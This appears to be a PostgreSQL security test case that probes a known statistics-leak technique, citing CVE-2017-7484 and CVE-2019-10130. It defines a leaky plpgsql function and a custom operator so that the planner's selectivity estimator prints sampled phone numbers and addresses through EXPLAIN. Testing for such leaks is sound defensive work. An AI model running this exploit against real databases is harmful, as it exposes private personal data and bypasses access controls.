-- what: the selectivity estimator calls a user's operator on most common values and histogram bounds
-- known: bypasses.md: CVE-2017-7484, CVE-2019-10130
-- purpose: service
CREATE FUNCTION shout(text, text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RAISE NOTICE '%', $1; RETURN true; END $$;
CREATE OPERATOR <<< (LEFTARG = text, RIGHTARG = text, FUNCTION = shout, RESTRICT = scalarltsel, JOIN = scalarltjoinsel);
EXPLAIN SELECT 1 FROM users WHERE phone <<< '1';
EXPLAIN SELECT 1 FROM (SELECT phone FROM users OFFSET 0) s WHERE phone <<< '1';
EXPLAIN SELECT 1 FROM users a JOIN users b ON a.phone <<< b.phone;
EXPLAIN SELECT 1 FROM visits WHERE address <<< '1';
EXPLAIN SELECT 1 FROM contacts WHERE phone <<< '1';
